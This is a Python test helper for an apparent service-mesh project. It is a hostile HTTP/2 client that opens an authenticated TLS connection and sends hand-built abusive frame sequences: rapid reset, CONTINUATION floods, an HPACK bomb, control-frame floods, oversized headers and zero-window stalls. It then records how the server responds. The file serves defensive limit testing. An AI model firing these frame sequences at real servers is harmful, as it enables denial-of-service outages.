"""A hostile HTTP/2 client for the 15008 abuse tests, run as its own process.

It authenticates like any mesh workload (a valid SVID: abuse after authentication is the case the
HTTP/2 limits exist for, security.md §1d) and then writes hand-built frames with `hyperframe` and
`hpack`, which, unlike `h2`'s state machine, let it send what no honest peer would. Running in a
separate process keeps its CPU off the server's event loop, so the legitimate client's latency in
the test measures the server, not the attacker's frame building.

Input: one JSON object on stdin (address, PEM material, scenario, count). Output: one JSON object on
stdout: what it sent, whether the server sent GOAWAY (and its error code), whether it closed.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import sys
import time
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from zerotunnel.identity.bundle import TrustBundle
from zerotunnel.identity.spiffe import SpiffeId
from zerotunnel.node.tls import WorkloadCredentials, client_context

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def connect_block(authority: str) -> bytes:
    return bytes(hpack.Encoder().encode([(":method", "CONNECT"), (":authority", authority)]))


def frames(scenario: str, n: int, authority: str) -> list[bytes]:
    """The bytes of one attack, after the connection preface and our SETTINGS."""
    out: list[bytes] = []
    enc = hpack.Encoder()
    if scenario == "rapid_reset":
        for i in range(n):
            sid = 2 * i + 1
            block = bytes(enc.encode([(":method", "CONNECT"), (":authority", authority)]))
            out.append(HeadersFrame(sid, block, flags=["END_HEADERS"]).serialize())
            out.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
    elif scenario == "early_error_reset":
        for i in range(n):  # requests the server must refuse (400): h2 crate's "error resets"
            sid = 2 * i + 1
            block = bytes(enc.encode([(":method", "CONNECT"), (":authority", "not-an-authority")]))
            out.append(HeadersFrame(sid, block, flags=["END_HEADERS"]).serialize())
    elif scenario in ("continuation_empty", "continuation_1k"):
        size = 0 if scenario == "continuation_empty" else 1024
        block = connect_block(authority)
        out.append(HeadersFrame(1, block[:2]).serialize())
        for _ in range(n):
            out.append(ContinuationFrame(1, b"\x00" * size).serialize())
    elif scenario == "big_headers":
        block = bytes(enc.encode([(":method", "CONNECT"), (":authority", authority),
                                  ("x-big", "a" * (70 * 1024))], huffman=False))
        out.append(HeadersFrame(1, block, flags=["END_HEADERS"]).serialize())
    elif scenario == "hpack_bomb":
        # 4 KiB header into the dynamic table once, then referenced by index: ~1 byte on the wire per
        # 4 KiB decoded (Envoy CVE-2026-47774: limit the *decoded* size).
        first = bytes(enc.encode([(":method", "CONNECT"), (":authority", authority), ("x-bomb", "b" * 4000)]))
        more = bytes(enc.encode([("x-bomb", "b" * 4000)] * n))
        out.append(HeadersFrame(1, first + more, flags=["END_HEADERS"]).serialize())
    elif scenario == "settings_flood":
        out.extend(SettingsFrame(0).serialize() for _ in range(n))
    elif scenario == "ping_flood":
        out.extend(PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize() for i in range(n))
    elif scenario == "window_update_flood":
        out.extend(WindowUpdateFrame(0, window_increment=1).serialize() for _ in range(n))
    elif scenario == "empty_data_flood":
        out.append(HeadersFrame(1, connect_block(authority), flags=["END_HEADERS"]).serialize())
        out.extend(DataFrame(1, b"").serialize() for _ in range(n))
    elif scenario == "streams_beyond_limit":
        for i in range(n):
            block = bytes(enc.encode([(":method", "CONNECT"), (":authority", authority)]))
            out.append(HeadersFrame(2 * i + 1, block, flags=["END_HEADERS"]).serialize())
    elif scenario == "zero_window":
        # Our SETTINGS (sent first) give the server a zero stream window; we then push n KiB into
        # an echo app: the echo can never come back to us.
        out.append(HeadersFrame(1, connect_block(authority), flags=["END_HEADERS"]).serialize())
        chunk = b"z" * 16384
        out.extend(DataFrame(1, chunk).serialize() for _ in range(n // 16))
    else:
        raise SystemExit(f"unknown scenario {scenario}")
    return out


def parse_frames(data: bytes) -> list[Frame]:
    found: list[Frame] = []
    pos = 0
    while pos + 9 <= len(data):
        frame, length = Frame.parse_frame_header(memoryview(data[pos : pos + 9]))
        if pos + 9 + length > len(data):
            break
        frame.parse_body(memoryview(data[pos + 9 : pos + 9 + length]))
        found.append(frame)
        pos += 9 + length
    return found


async def attack(args: dict[str, Any]) -> dict[str, Any]:
    creds = WorkloadCredentials.from_pem(
        SpiffeId.parse(args["identity"]), args["chain"].encode(), args["key"].encode(),
        TrustBundle.from_pem(args["td"], args["roots"].encode()),
    )
    scenario, n = args["scenario"], int(args["n"])
    settings: dict[int, int] = {}
    if scenario == "zero_window":
        settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
    body = b"".join(frames(scenario, n, args["authority"]))
    t0 = time.monotonic()
    reader, writer = await asyncio.open_connection(
        args["host"], args["port"], ssl=client_context(creds), server_hostname=""
    )
    handshake = time.monotonic() - t0
    writer.write(PREFACE + SettingsFrame(0, settings=settings).serialize())
    writer.write(body)
    received = bytearray()
    closed = False

    async def drain() -> None:
        with contextlib.suppress(ConnectionError, OSError):
            await writer.drain()

    drainer = asyncio.create_task(drain())
    deadline = time.monotonic() + float(args.get("hold", 10.0))
    while time.monotonic() < deadline:
        try:
            chunk = await asyncio.wait_for(reader.read(1 << 16), deadline - time.monotonic())
        except TimeoutError:
            break
        except (ConnectionError, OSError):
            closed = True
            break
        if not chunk:
            closed = True
            break
        received += chunk
    elapsed = time.monotonic() - t0
    drainer.cancel()
    parsed = parse_frames(bytes(received))
    goaway = next((f for f in parsed if isinstance(f, GoAwayFrame)), None)
    rsts = [f for f in parsed if isinstance(f, RstStreamFrame)]
    headers = [f for f in parsed if isinstance(f, HeadersFrame)]
    writer.transport.abort()
    return {
        "scenario": scenario,
        "n": n,
        "bytes_attempted": len(body),
        "handshake_s": round(handshake, 4),
        "elapsed_s": round(elapsed, 3),
        "closed": closed,
        "goaway": None if goaway is None else int(goaway.error_code),
        "goaway_reason": None if goaway is None else bytes(goaway.additional_data).decode("utf-8", "replace"),
        "last_stream_id": None if goaway is None else int(goaway.last_stream_id),
        "responses": len(headers),
        "resets": len(rsts),
        "reset_codes": sorted({int(f.error_code) for f in rsts}),
    }


def main() -> None:
    args = json.loads(sys.stdin.read())
    print(json.dumps(asyncio.run(attack(args))))


if __name__ == "__main__":
    main()
